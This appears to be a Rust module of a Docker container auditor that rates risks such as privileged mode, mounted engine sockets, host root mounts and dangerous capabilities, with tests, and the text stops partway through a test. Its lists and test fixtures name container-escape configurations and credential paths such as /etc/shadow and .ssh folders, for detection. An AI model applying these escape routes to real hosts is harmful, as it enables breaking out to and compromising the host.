//! What a container may do that containers need not: the table of risks, and which of them a container carries.
//!
//! Numbers are those of the CIS Docker Benchmark 1.6 and of MITRE ATT&CK. A risk that nearly every container carries
//! (no limits, root inside) is of severity [`Severity::Info`]: worth a report, not an alert.

use std::collections::BTreeMap;
use std::fmt;

use super::{exec, seccomp};
use crate::docker::inspect::{Container, Mount, Volume};

/// How grave a risk is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    /// A habit that could be better.
    Info,
    /// It opens something to the network or to another container.
    Low,
    /// It takes one wall between container and host away.
    Medium,
    /// It is a known way to the host with some skill.
    High,
    /// It is the host.
    Critical,
}

impl Severity {
    /// All, the gravest first.
    pub const ALL: [Self; 5] = [Self::Critical, Self::High, Self::Medium, Self::Low, Self::Info];

    /// One word for rules.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Info => "info",
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
            Self::Critical => "critical",
        }
    }
}

impl fmt::Display for Severity {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A kind of risk.
#[derive(Debug, PartialEq, Eq)]
pub struct Kind {
    /// Its name in messages and rules.
    pub name: &'static str,
    /// How grave it is.
    pub severity: Severity,
    /// Its number in the CIS Docker Benchmark 1.6; empty where there is none.
    pub cis: &'static str,
    /// What an attacker does with it, in MITRE ATT&CK.
    pub attack: &'static str,
    /// What it is.
    pub what: &'static str,
    /// What to do about it.
    pub cure: &'static str,
}

macro_rules! kinds {
    ($($name:ident $severity:ident $cis:literal $attack:literal $what:literal $cure:literal;)*) => {
        /// The known kinds, each under its name.
        #[allow(non_upper_case_globals, reason = "so that a kind's name stands once")]
        #[allow(clippy::doc_markdown, reason = "the texts are for people")]
        pub mod kind {
            use super::{Kind, Severity};
            $(
                #[doc = $what]
                pub static $name: Kind = Kind {
                    name: stringify!($name),
                    severity: Severity::$severity,
                    cis: $cis,
                    attack: $attack,
                    what: $what,
                    cure: $cure,
                };
            )*
        }

        /// All kinds of risk, in the order of this table.
        pub static KINDS: &[&Kind] = &[$(&kind::$name),*];
    };
}

kinds! {
    privileged Critical "5.5" "T1611" "runs privileged: it may do on the host what root may" "drop --privileged; add the one capability or device that is needed";
    engine_socket Critical "5.32" "T1611" "the engine's socket is mounted: it may start any container" "do not mount it; put a proxy between that allows the calls that are needed";
    host_root_rw Critical "5.6" "T1611" "the host's root folder or a disk of it is mounted" "mount the one folder that is needed, read-only";
    all_capabilities Critical "5.4" "T1611" "has all capabilities, or those that are as good as root on the host" "drop all and add the ones that are needed";
    host_root_ro High "5.6" "T1005" "the host's root folder is mounted for reading: keys and secrets with it" "mount the one folder that is needed";
    host_path_rw High "5.6" "T1611" "a sensitive folder of the host is mounted and may be written to" "do not mount it, or mount it read-only";
    dangerous_capabilities High "5.4" "T1611" "has capabilities that have led out of containers" "drop them";
    host_pid High "5.16" "T1611" "sees and may signal the host's processes" "drop --pid=host";
    host_devices High "5.18" "T1611" "may use devices of the host" "drop --device and --device-cgroup-rule, or name the one device that is needed";
    seccomp_unconfined High "5.22" "T1562.001" "may call every system call" "use the default seccomp profile, or one that names what is allowed";
    system_paths_unconfined High "" "T1611" "the guards over /proc and /sys are off" "drop systempaths=unconfined";
    host_path_ro Medium "5.6" "T1005" "a sensitive folder of the host is mounted for reading" "do not mount it";
    host_network Medium "5.10" "T1040" "uses the host's network: its local services and all of its traffic" "use a network of its own and publish the ports that are needed";
    host_ipc Medium "5.17" "T1611" "uses the host's shared memory" "drop --ipc=host";
    host_uts Medium "5.21" "T1611" "may change the host's name" "drop --uts=host";
    host_users Medium "5.31" "T1611" "its root is the host's, although the engine maps users" "drop --userns=host";
    apparmor_unconfined Medium "5.2" "T1562.001" "runs without the AppArmor profile" "use the default profile";
    selinux_disabled Medium "5.3" "T1562.001" "runs without SELinux separation" "drop label=disable";
    shared_propagation Medium "5.20" "T1611" "what it mounts appears on the host" "use rprivate or rslave";
    health_check_tool Medium "" "T1059.004" "its health check, which the engine runs again and again, opens a shell to or fetches from elsewhere" "look at the health check and at who made the image";
    interactive_shell Medium "" "T1609" "somebody may type into a shell that is its main process" "look at who started it; run what it is for instead of a shell";
    command_tool Medium "" "T1059.004" "its main process opens a way out, or runs what it fetches" "look at who started it and at what it fetches";
    joined_namespaces Low "" "T1611" "shares processes, memory or network with another container" "give it its own, or a pod's";
    added_capabilities Low "5.4" "T1611" "has capabilities beside the default ones" "drop them";
    published_everywhere Low "5.14" "T1133" "ports are published on all addresses of the host" "publish on the address that is meant: -p 127.0.0.1:80:80";
    no_new_privileges_absent Info "5.26" "T1548.001" "its processes may gain privileges by set-user-id programs" "--security-opt=no-new-privileges, or in the engine's configuration for all";
    root_user Info "4.1" "T1548.001" "runs as root" "USER in the image, or --user";
    no_memory_limit Info "5.11" "T1499" "may use all memory" "--memory";
    no_pids_limit Info "5.29" "T1499" "may start any number of processes" "--pids-limit";
    restart_always Info "5.15" "T1543.005" "is started again for ever, also after a reboot" "--restart=on-failure:5 where it need not survive a reboot";
}

/// A risk that something carries.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Risk {
    /// Which.
    pub kind: &'static Kind,
    /// What of it: the path, the capabilities, the ports.
    pub detail: String,
}

/// What the host knows about paths that a container was given.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Host {
    /// Where the paths that are links lead.
    pub resolved: BTreeMap<String, String>,
    /// The paths that are the engine's own socket, by whatever name.
    pub sockets: Vec<String>,
    /// Where that socket is, without links.
    pub engine: Option<String>,
}

/// Folders with all that is in them.
const TREES: [&str; 27] = [
    "/bin",
    "/boot",
    "/dev",
    "/etc",
    "/lib",
    "/lib64",
    "/opt/containerd",
    "/proc",
    "/root",
    "/run",
    "/sbin",
    "/sys",
    "/usr",
    "/var/backups",
    "/var/lib/cloud",
    "/var/lib/containerd",
    "/var/lib/containers",
    "/var/lib/docker",
    "/var/lib/dpkg",
    "/var/lib/kubelet",
    "/var/lib/rpm",
    "/var/lib/systemd",
    "/var/ossec",
    "/var/run",
    "/var/spool/anacron",
    "/var/spool/at",
    "/var/spool/cron",
];

/// Folders that are sensitive as a whole; what is in them is somebody's own.
const FOLDERS: [&str; 3] = ["/home", "/var/log", "/mnt"];

/// What stands in a sensitive folder and says nothing to who only reads it.
const HARMLESS: [&str; 8] = [
    "/dev/null",
    "/etc/ca-certificates",
    "/etc/localtime",
    "/etc/pki/ca-trust",
    "/etc/ssl/certs",
    "/etc/timezone",
    "/usr/share/ca-certificates",
    "/usr/share/zoneinfo",
];

/// Folders of sockets through which containers are made. To whom they are mounted read-only they take orders all the same.
const SOCKET_FOLDERS: [&str; 10] = [
    "/run",
    "/run/containerd",
    "/run/crio",
    "/run/docker",
    "/run/podman",
    "/var/run",
    "/var/run/containerd",
    "/var/run/crio",
    "/var/run/docker",
    "/var/run/podman",
];

/// Sockets through which containers are made.
const SOCKETS: [&str; 6] =
    ["docker.sock", "podman.sock", "containerd.sock", "crio.sock", "dockershim.sock", "cri-dockerd.sock"];

/// As good as all.
const ROOT_CAPABILITIES: [&str; 3] = ["ALL", "SYS_ADMIN", "SYS_MODULE"];

/// Each has led out of a container.
const DANGEROUS_CAPABILITIES: [&str; 15] = [
    "AUDIT_CONTROL",
    "BPF",
    "CHECKPOINT_RESTORE",
    "DAC_READ_SEARCH",
    "LINUX_IMMUTABLE",
    "MAC_ADMIN",
    "MAC_OVERRIDE",
    "NET_ADMIN",
    "PERFMON",
    "SYS_BOOT",
    "SYS_PTRACE",
    "SYS_RAWIO",
    "SYS_TIME",
    "SYSLOG",
    "SYS_TTY_CONFIG",
];

/// The risks of a container, the gravest first.
#[must_use]
pub fn of_container(container: &Container, volumes: &[Volume], host: &Host) -> Vec<Risk> {
    let mut risks = Risks(Vec::new());
    risks.add_if(container.host_config.privileged, &kind::privileged, "--privileged");
    namespaces(container, &mut risks);
    capabilities(&container.host_config.cap_add, &mut risks);
    mounts(container, volumes, host, &mut risks);
    devices(container, &mut risks);
    confinement(container, &mut risks);
    habits(container, &mut risks);
    let main = main_process(container);
    let opens_shell = exec::of_command(&main).shell.is_some();
    if exec::is_backdoor(&main) {
        risks.add(&kind::command_tool, main);
    } else if container.config.open_stdin && opens_shell {
        risks.add(&kind::interactive_shell, main);
    }
    if let Some(command) = probe(container).filter(|command| exec::reaches_out(command)) {
        risks.add(&kind::health_check_tool, command);
    }
    // Stable: within a severity in the order of the table.
    let Risks(mut risks) = risks;
    risks.sort_by_key(|risk| (std::cmp::Reverse(risk.kind.severity), KINDS.iter().position(|kind| *kind == risk.kind)));
    risks
}

/// The most of a detail that is kept, in bytes; a message shows less, and whoever makes a container could make it huge.
const LONGEST_DETAIL: usize = 4096;

struct Risks(Vec<Risk>);

impl Risks {
    /// Several of one kind are one risk with all their details.
    fn add(&mut self, kind: &'static Kind, detail: impl Into<String>) {
        let mut detail: String = detail.into();
        let end = (0..=detail.len().min(LONGEST_DETAIL)).rev().find(|end| detail.is_char_boundary(*end));
        detail.truncate(end.unwrap_or_default());
        match self.0.iter_mut().find(|risk| risk.kind == kind) {
            Some(risk) if risk.detail.split(", ").any(|known| known == detail) => {}
            Some(risk) if risk.detail.len() < LONGEST_DETAIL => {
                risk.detail.push_str(", ");
                risk.detail.push_str(&detail);
            }
            Some(_) => {}
            None => self.0.push(Risk { kind, detail }),
        }
    }

    fn add_if(&mut self, holds: bool, kind: &'static Kind, detail: &str) {
        if holds {
            self.add(kind, detail);
        }
    }
}

fn namespaces(container: &Container, risks: &mut Risks) {
    let given = &container.host_config;
    for (mode, kind, option) in [
        (&given.pid_mode, &kind::host_pid, "pid"),
        (&given.network_mode, &kind::host_network, "network"),
        (&given.ipc_mode, &kind::host_ipc, "ipc"),
        (&given.uts_mode, &kind::host_uts, "uts"),
        (&given.userns_mode, &kind::host_users, "userns"),
    ] {
        risks.add_if(mode == "host", kind, &format!("--{option}=host"));
        if mode.starts_with("container:") {
            risks.add(&kind::joined_namespaces, format!("--{option}={mode}"));
        }
    }
}

fn capabilities(added: &[String], risks: &mut Risks) {
    for capability in added {
        let capability = capability.to_ascii_uppercase();
        let name = capability.strip_prefix("CAP_").unwrap_or(&capability);
        let kind = if ROOT_CAPABILITIES.contains(&name) {
            &kind::all_capabilities
        } else if DANGEROUS_CAPABILITIES.contains(&name) {
            &kind::dangerous_capabilities
        } else {
            &kind::added_capabilities
        };
        risks.add(kind, name);
    }
}

fn mounts(container: &Container, volumes: &[Volume], host: &Host, risks: &mut Risks) {
    for mount in &container.mounts {
        let mut sources = vec![mount.source.clone()];
        let volume = volumes.iter().find(|volume| mount.kind == "volume" && volume.name == mount.name);
        if let Some(volume) = volume {
            // The volume's own folder is the engine's affair; what its options put there is not.
            sources = options_of(volume);
        } else if mount.kind == "volume" {
            continue;
        }
        for source in sources {
            path(&source, mount, host, risks);
        }
        if matches!(mount.propagation.as_str(), "shared" | "rshared") {
            risks.add(&kind::shared_propagation, format!("{} ({})", mount.destination, mount.propagation));
        }
    }
}

/// The folders and devices of the host that a volume's options mount: `--opt type=none --opt o=bind --opt device=/`. The
/// engine hands them to mount(2) as they are, and where it runs is the root folder, so `device=.` is the host's too.
fn options_of(volume: &Volume) -> Vec<String> {
    const ELSEWHERE: [&str; 9] = ["nfs", "nfs4", "cifs", "smb3", "smbfs", "ceph", "glusterfs", "9p", "tmpfs"];
    let option = |name: &str| volume.options.get(name).map(String::as_str).unwrap_or_default();
    if ELSEWHERE.contains(&option("type")) {
        return Vec::new();
    }
    let device = Some(option("device")).filter(|device| !device.is_empty()).map(from_root);
    // overlayfs takes a backslash as one that makes the next character plain.
    let folders = option("o")
        .split(',')
        .filter_map(|option| {
            option.split_once('=').filter(|(key, _)| key.ends_with("dir") || key.starts_with("lowerdir"))
        })
        .flat_map(|(_, folders)| {
            folders.split(':').map(|folder| from_root(&folder.replace('\\', ""))).collect::<Vec<_>>()
        });
    device.into_iter().chain(folders).collect()
}

fn from_root(path: &str) -> String {
    if path.starts_with('/') { path.to_owned() } else { format!("/{path}") }
}

/// The host's paths that a container was given, for whoever can say where links lead.
#[must_use]
pub fn paths<'c>(container: &'c Container, volumes: &[Volume]) -> Vec<String> {
    let binds = container.mounts.iter().filter(|mount: &&'c Mount| mount.kind != "volume").map(|m| m.source.clone());
    binds.chain(volumes.iter().flat_map(options_of)).filter(|path| path.starts_with('/')).collect()
}

fn path(source: &str, mount: &Mount, host: &Host, risks: &mut Risks) {
    if !source.starts_with('/') {
        return;
    }
    let clean = cleaned(source);
    let resolved = host.resolved.get(source).map(|path| cleaned(path));
    let shown = match &resolved {
        Some(resolved) if *resolved != clean => format!("{clean} -> {resolved}"),
        _ => clean.clone(),
    };
    let shown = format!("{shown} ({})", if mount.is_writable { "rw" } else { "ro" });
    let real = resolved.as_deref().unwrap_or(&clean);
    let is_socket = |path: &str| path.rsplit('/').next().is_some_and(|name| SOCKETS.contains(&name));
    let writes = mount.is_writable;
    let reach = reach(real, writes).max(reach(&clean, writes));
    let holds_engine = reach != Reach::Root && host.engine.as_ref().is_some_and(|socket| within(socket, real));
    let holds_sockets = [&clean, real].iter().any(|path| SOCKET_FOLDERS.contains(path));
    let is_engine = host.sockets.iter().any(|socket| socket == source);
    // A socket that is mounted read-only takes orders all the same.
    if is_socket(&clean) || is_socket(real) || holds_engine || holds_sockets || is_engine {
        risks.add(&kind::engine_socket, shown);
        return;
    }
    let of_sockets = within(real, "/run") || within(real, "/var/run");
    let kind = match (reach, writes || of_sockets) {
        (Reach::Nothing, _) => return,
        (Reach::Root, true) => &kind::host_root_rw,
        (Reach::Root, false) => &kind::host_root_ro,
        (Reach::Sensitive, true) => &kind::host_path_rw,
        (Reach::Sensitive, false) => &kind::host_path_ro,
    };
    risks.add(kind, shown);
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Reach {
    Nothing,
    Sensitive,
    Root,
}

/// Whether a path is this folder or something in it.
fn within(path: &str, folder: &str) -> bool {
    path == folder || path.strip_prefix(folder).is_some_and(|rest| rest.starts_with('/'))
}

/// How much of the host a path is, to who may write to it or only read.
fn reach(path: &str, writes: bool) -> Reach {
    let names_disk =
        ["/dev/sd", "/dev/vd", "/dev/xvd", "/dev/nvme", "/dev/mapper/", "/dev/dm-", "/dev/disk/", "/dev/mmcblk"];
    // The root folder of the first process is the host's.
    if path == "/" || within(path, "/proc/1/root") || names_disk.iter().any(|disk| path.starts_with(disk)) {
        return Reach::Root;
    }
    let is_harmless = path == "/dev/null"
        || (!writes && HARMLESS.iter().any(|harmless| within(path, harmless)))
        || is_of_one_pod(path);
    let is_sensitive = TREES.iter().any(|tree| within(path, tree) || within(tree, path))
        || FOLDERS.iter().any(|folder| within(folder, path))
        || is_persons(path);
    if is_sensitive && !is_harmless { Reach::Sensitive } else { Reach::Nothing }
}

/// What kubelet mounts into each of a pod's containers: below `/var/lib/kubelet/pods/<uid>/`.
fn is_of_one_pod(path: &str) -> bool {
    let own = path.strip_prefix("/var/lib/kubelet/pods/").and_then(|rest| rest.split_once('/'));
    own.is_some_and(|(_, rest)| {
        rest == "etc-hosts" || ["volumes/", "volume-subpaths/", "containers/"].iter().any(|own| rest.starts_with(own))
    })
}

/// A person's folder, or what is hidden in it: keys, and what a shell runs.
fn is_persons(path: &str) -> bool {
    let own = path.strip_prefix("/home/").unwrap_or_default();
    match own.split_once('/') {
        Some((_, rest)) => rest.starts_with('.'),
        None => !own.is_empty(),
    }
}

/// A path without `.`, `..` and double slashes.
fn cleaned(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => drop(parts.pop()),
            part => parts.push(part),
        }
    }
    format!("/{}", parts.join("/"))
}

fn devices(container: &Container, risks: &mut Risks) {
    for device in &container.host_config.devices {
        let path = cleaned(&device.path_on_host);
        let kind = if reach(&path, true) == Reach::Root { &kind::host_root_rw } else { &kind::host_devices };
        if !matches!(
            path.as_str(),
            "/dev/null" | "/dev/fuse" | "/dev/zero" | "/dev/full" | "/dev/random" | "/dev/urandom"
        ) {
            risks.add(kind, path);
        }
    }
    for rule in &container.host_config.device_cgroup_rules {
        risks.add(&kind::host_devices, rule.as_str());
    }
}

fn confinement(container: &Container, risks: &mut Risks) {
    let given = &container.host_config;
    let mut may_gain = true;
    for option in &given.security_opt {
        // Older engines wrote a colon; a profile of seccomp is JSON and has colons of its own.
        let (key, value) = match (option.split_once('='), option.split_once(':')) {
            (Some((key, value)), Some((older, _))) if key.len() < older.len() => (key, value),
            (_, Some((key, value))) | (Some((key, value)), None) => (key, value),
            (None, None) => (option.as_str(), "true"),
        };
        match (key, value) {
            ("seccomp", "unconfined") => risks.add(&kind::seccomp_unconfined, option.as_str()),
            ("seccomp", "builtin" | "default") => {}
            ("seccomp", profile) => {
                if let Some(why) = seccomp::weakness(profile) {
                    risks.add(&kind::seccomp_unconfined, format!("seccomp={why}"));
                }
            }
            ("apparmor", "unconfined") => risks.add(&kind::apparmor_unconfined, option.as_str()),
            ("label", "disable") | ("disable", _) => risks.add(&kind::selinux_disabled, option.as_str()),
            ("label", "type:spc_t" | "type:unconfined_t" | "type:container_runtime_t") => {
                risks.add(&kind::selinux_disabled, option.as_str());
            }
            ("systempaths", "unconfined") => risks.add(&kind::system_paths_unconfined, option.as_str()),
            ("writable-cgroups", value) if is_true(value) => {
                risks.add(&kind::system_paths_unconfined, option.as_str());
            }
            ("no-new-privileges", value) if is_true(value) => may_gain = false,
            _ => {}
        }
    }
    if !given.privileged {
        risks.add_if(container.app_armor_profile == "unconfined", &kind::apparmor_unconfined, "apparmor=unconfined");
        for (paths, kept, name) in [
            (&given.masked_paths, &MASKED[..], "MaskedPaths"),
            (&given.readonly_paths, &READ_ONLY[..], "ReadonlyPaths"),
        ] {
            let Some(paths) = paths else { continue };
            let is_kept = |path: &&str| paths.iter().any(|kept| within(path, kept));
            let missing: Vec<&str> = kept.iter().copied().filter(|path| !is_kept(path)).collect();
            risks.add_if(
                !missing.is_empty(),
                &kind::system_paths_unconfined,
                &format!("{name} without {}", missing.join(" ")),
            );
        }
    }
    risks.add_if(may_gain, &kind::no_new_privileges_absent, "no-new-privileges is not set");
}

/// What engines hide of /proc and /sys, those of it that all versions hide.
const MASKED: [&str; 5] = ["/proc/kcore", "/proc/keys", "/proc/sched_debug", "/proc/timer_list", "/sys/firmware"];

/// What engines guard against writing.
const READ_ONLY: [&str; 5] = ["/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"];

/// As the engine reads it (Go's `strconv.ParseBool`).
fn is_true(value: &str) -> bool {
    matches!(value, "1" | "t" | "T" | "true" | "TRUE" | "True")
}

fn habits(container: &Container, risks: &mut Risks) {
    let given = &container.host_config;
    if is_root(&container.config.user) {
        let user = &container.config.user;
        risks.add(&kind::root_user, if user.is_empty() { "no user is set" } else { user });
    }
    for (port, bindings) in &given.port_bindings {
        for binding in bindings.iter().flatten() {
            if matches!(binding.host_ip.as_str(), "" | "0.0.0.0" | "::" | "[::]") {
                risks.add(&kind::published_everywhere, format!("{} -> {port}", binding.host_port));
            }
        }
    }
    risks.add_if(given.publish_all_ports, &kind::published_everywhere, "--publish-all");
    risks.add_if(given.memory <= 0, &kind::no_memory_limit, "no limit");
    risks.add_if(given.pids_limit <= 0, &kind::no_pids_limit, "no limit");
    let restart = given.restart_policy.name.as_str();
    risks.add_if(matches!(restart, "always" | "unless-stopped"), &kind::restart_always, restart);
}

/// Whether this user, as engines write it, is root. A name that the image gives the number 0 is not seen.
#[must_use]
pub fn is_root(user: &str) -> bool {
    let name = user.split(':').next().unwrap_or_default().trim();
    let number = name.strip_prefix(['+', '-']).unwrap_or(name);
    name.is_empty() || name == "root" || (!number.is_empty() && number.bytes().all(|byte| byte == b'0'))
}

/// What probes a container's health, as it stands in the events of it.
#[must_use]
pub fn probe(container: &Container) -> Option<String> {
    let (form, words) = container.config.healthcheck.test.split_first()?;
    match form.as_str() {
        "CMD" if !words.is_empty() => Some(words.join(" ")),
        "CMD-SHELL" => {
            let shell = if container.config.shell.is_empty() {
                "/bin/sh -c".to_owned()
            } else {
                container.config.shell.join(" ")
            };
            Some(format!("{shell} {}", words.join(" ")))
        }
        _ => None,
    }
}

/// What runs in a container by itself.
fn main_process(container: &Container) -> String {
    format!("{} {}", container.path, container.args.join(" ")).trim_end().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The names of the risks of a container of this `HostConfig` with these other parts, but for those of every container.
    fn names(host_config: &str, more: &str) -> Vec<(&'static str, String)> {
        let mut json: serde_json::Value =
            serde_json::from_str(&format!(r#"{{"Config":{{"User":"app"}}{more}}}"#)).unwrap();
        let own: serde_json::Value = serde_json::from_str(&format!("{{{host_config}}}")).unwrap();
        json["HostConfig"] = serde_json::json!({"SecurityOpt": ["no-new-privileges"], "Memory": 1, "PidsLimit": 1});
        for (key, value) in own.as_object().unwrap() {
            json["HostConfig"][key] = value.clone();
        }
        let container: Container = serde_json::from_value(json).unwrap();
        let volumes: Vec<Volume> = vec![
            serde_json::from_str(r#"{"Name":"evil","Driver":"local","Options":{"type":"none","o":"bind","device":"/"}}"#).unwrap(),
            serde_json::from_str(r#"{"Name":"lower","Driver":"local","Options":{"type":"overlay","o":"lowerdir=/tmp:/etc,upperdir=/tmp/u","device":"overlay"}}"#).unwrap(),
            serde_json::from_str(r#"{"Name":"disk","Driver":"local","Options":{"type":"ext4","device":"/dev/sda1"}}"#).unwrap(),
            serde_json::from_str(r#"{"Name":"nfs","Driver":"local","Options":{"type":"nfs","o":"addr=10.0.0.1","device":":/export"}}"#).unwrap(),
        ];
        let volumes: Vec<Volume> = volumes
            .into_iter()
            .chain(
                [
                    r#"{"Name":"dot","Driver":"local","Options":{"type":"none","o":"bind","device":"."}}"#,
                    r#"{"Name":"relative","Driver":"local","Options":{"type":"","o":"rbind,ro","device":"etc"}}"#,
                    r#"{"Name":"escaped","Driver":"local","Options":{"type":"overlay","o":"lowerdir=\\/etc:tmp","device":"overlay"}}"#,
                ]
                .map(|volume| serde_json::from_str(volume).unwrap()),
            )
            .collect();
        let host = Host {
            resolved: BTreeMap::from([("/srv/link".to_owned(), "/etc".to_owned())]),
            sockets: vec!["/srv/engine".to_owned()],
            engine: Some("/opt/engine/own.socket".to_owned()),
        };
        of_container(&container, &volumes, &host).into_iter().map(|risk| (risk.kind.name, risk.detail)).collect()
    }

    fn mount(kind: &str, name: &str, source: &str, writable: bool) -> String {
        format!(
            r#","Mounts":[{{"Type":"{kind}","Name":"{name}","Source":"{source}","Destination":"/x","RW":{writable},"Propagation":"rprivate"}}]"#
        )
    }

    #[test]
    fn a_container_that_keeps_to_the_rules_has_none_and_a_plain_one_only_those_of_habit() {
        assert_eq!(names("", ""), []);
        let plain: Container =
            serde_json::from_str(r#"{"Config":{},"HostConfig":{"RestartPolicy":{"Name":"always"}}}"#).unwrap();
        let risks = of_container(&plain, &[], &Host::default());
        let names: Vec<&str> = risks.iter().map(|risk| risk.kind.name).collect();
        assert_eq!(
            names,
            ["no_new_privileges_absent", "root_user", "no_memory_limit", "no_pids_limit", "restart_always"]
        );
        assert!(risks.iter().all(|risk| risk.kind.severity == Severity::Info));
    }

    #[test]
    fn each_option_is_its_risk() {
        for (host_config, name, detail) in [
            (r#""Privileged":true"#, "privileged", "--privileged"),
            (r#""PidMode":"host""#, "host_pid", "--pid=host"),
            (r#""PidMode":"container:abc""#, "joined_namespaces", "--pid=container:abc"),
            (r#""NetworkMode":"host""#, "host_network", "--network=host"),
            (r#""IpcMode":"host""#, "host_ipc", "--ipc=host"),
            (r#""UTSMode":"host""#, "host_uts", "--uts=host"),
            (r#""UsernsMode":"host""#, "host_users", "--userns=host"),
            (r#""CapAdd":["CAP_SYS_ADMIN"]"#, "all_capabilities", "SYS_ADMIN"),
            (r#""CapAdd":["all"]"#, "all_capabilities", "ALL"),
            (r#""CapAdd":["sys_ptrace","BPF"]"#, "dangerous_capabilities", "SYS_PTRACE, BPF"),
            (r#""CapAdd":["NET_BIND_SERVICE"]"#, "added_capabilities", "NET_BIND_SERVICE"),
            (
                r#""SecurityOpt":["no-new-privileges:true","seccomp=unconfined"]"#,
                "seccomp_unconfined",
                "seccomp=unconfined",
            ),
            (r#""SecurityOpt":["no-new-privileges","seccomp:unconfined"]"#, "seccomp_unconfined", "seccomp:unconfined"),
            (
                r#""SecurityOpt":["no-new-privileges","seccomp={\"DefaultAction\":\"SCMP_ACT_ALLOW\"}"]"#,
                "seccomp_unconfined",
                "seccomp=a profile that allows what it does not name",
            ),
            (r#""SecurityOpt":["no-new-privileges","label=type:spc_t"]"#, "selinux_disabled", "label=type:spc_t"),
            (r#""SecurityOpt":["no-new-privileges","disable"]"#, "selinux_disabled", "disable"),
            (r#""SecurityOpt":["no-new-privileges=0"]"#, "no_new_privileges_absent", "no-new-privileges is not set"),
            (
                r#""ReadonlyPaths":["/proc/bus","/proc/fs","/proc/irq","/proc/sysrq-trigger"]"#,
                "system_paths_unconfined",
                "ReadonlyPaths without /proc/sys",
            ),
            (
                r#""SecurityOpt":["no-new-privileges","apparmor=unconfined"]"#,
                "apparmor_unconfined",
                "apparmor=unconfined",
            ),
            (r#""SecurityOpt":["no-new-privileges","label=disable"]"#, "selinux_disabled", "label=disable"),
            (
                r#""SecurityOpt":["no-new-privileges=false"]"#,
                "no_new_privileges_absent",
                "no-new-privileges is not set",
            ),
            (
                r#""MaskedPaths":[]"#,
                "system_paths_unconfined",
                "MaskedPaths without /proc/kcore /proc/keys /proc/sched_debug /proc/timer_list /sys/firmware",
            ),
            (r#""Devices":[{"PathOnHost":"/dev/kvm"}]"#, "host_devices", "/dev/kvm"),
            (r#""Devices":[{"PathOnHost":"/dev/../dev//sda"}]"#, "host_root_rw", "/dev/sda"),
            (r#""DeviceCgroupRules":["b *:* rwm"]"#, "host_devices", "b *:* rwm"),
            (
                r#""PortBindings":{"80/tcp":[{"HostIp":"","HostPort":"8080"}]}"#,
                "published_everywhere",
                "8080 -> 80/tcp",
            ),
            (r#""PublishAllPorts":true"#, "published_everywhere", "--publish-all"),
            (r#""RestartPolicy":{"Name":"unless-stopped"}"#, "restart_always", "unless-stopped"),
            (r#""Memory":0"#, "no_memory_limit", "no limit"),
            (r#""PidsLimit":-1"#, "no_pids_limit", "no limit"),
        ] {
            assert_eq!(names(host_config, ""), [(name, detail.to_owned())], "{host_config}");
        }
        for harmless in [
            r#""NetworkMode":"bridge","IpcMode":"private","PidMode":"","UTSMode":"""#,
            r#""SecurityOpt":["no-new-privileges","seccomp={\"defaultAction\":\"SCMP_ACT_ERRNO\"}","label=type:x_t"]"#,
            r#""PortBindings":{"80/tcp":[{"HostIp":"127.0.0.1","HostPort":"8080"}],"81/tcp":null}"#,
            r#""RestartPolicy":{"Name":"on-failure"},"MaskedPaths":["/proc","/sys/firmware"],"ReadonlyPaths":["/proc"]"#,
            r#""Devices":[{"PathOnHost":"/dev/fuse"}]"#,
        ] {
            assert_eq!(names(harmless, ""), [], "{harmless}");
        }
    }

    #[test]
    fn each_part_of_the_host_is_seen_by_whatever_way_it_is_mounted() {
        for (mounted, name, detail) in [
            (mount("bind", "", "/var/run/docker.sock", true), "engine_socket", "/var/run/docker.sock (rw)"),
            (
                mount("bind", "", "/run/user/1000/podman/podman.sock", false),
                "engine_socket",
                "/run/user/1000/podman/podman.sock (ro)",
            ),
            (mount("bind", "", "/srv/engine", true), "engine_socket", "/srv/engine (rw)"),
            (mount("bind", "", "/opt/engine", false), "engine_socket", "/opt/engine (ro)"),
            (mount("bind", "", "/", true), "host_root_rw", "/ (rw)"),
            (mount("bind", "", "/./srv/..//", false), "host_root_ro", "/ (ro)"),
            (mount("bind", "", "/proc/1/root/srv", false), "host_root_ro", "/proc/1/root/srv (ro)"),
            (mount("bind", "", "/etc", true), "host_path_rw", "/etc (rw)"),
            (mount("bind", "", "/etc/shadow", false), "host_path_ro", "/etc/shadow (ro)"),
            (mount("bind", "", "/srv/../etc", true), "host_path_rw", "/etc (rw)"),
            (mount("bind", "", "/srv/link", true), "host_path_rw", "/srv/link -> /etc (rw)"),
            (mount("bind", "", "/home/alice", true), "host_path_rw", "/home/alice (rw)"),
            (mount("bind", "", "/home/alice/.ssh", false), "host_path_ro", "/home/alice/.ssh (ro)"),
            (mount("bind", "", "/var/lib/cloud/scripts", true), "host_path_rw", "/var/lib/cloud/scripts (rw)"),
            (mount("bind", "", "/etc/ssl/certs", true), "host_path_rw", "/etc/ssl/certs (rw)"),
            (mount("bind", "", "/var/lib/kubelet/pods", false), "host_path_ro", "/var/lib/kubelet/pods (ro)"),
            (mount("bind", "", "/run/containerd", false), "engine_socket", "/run/containerd (ro)"),
            (mount("bind", "", "/run/dbus", false), "host_path_rw", "/run/dbus (ro)"),
            (mount("bind", "", "/var", true), "host_path_rw", "/var (rw)"),
            (mount("bind", "", "/var/lib", false), "host_path_ro", "/var/lib (ro)"),
            (mount("bind", "", "/run", true), "engine_socket", "/run (rw)"),
            (mount("bind", "", "/home", true), "host_path_rw", "/home (rw)"),
            (mount("bind", "", "/root/.ssh", true), "host_path_rw", "/root/.ssh (rw)"),
            (mount("bind", "", "/var/ossec/etc", true), "host_path_rw", "/var/ossec/etc (rw)"),
            (mount("volume", "evil", "/var/lib/docker/volumes/evil/_data", true), "host_root_rw", "/ (rw)"),
            (mount("volume", "lower", "/var/lib/docker/volumes/lower/_data", false), "host_path_ro", "/etc (ro)"),
            (mount("volume", "disk", "/var/lib/docker/volumes/disk/_data", false), "host_root_ro", "/dev/sda1 (ro)"),
        ] {
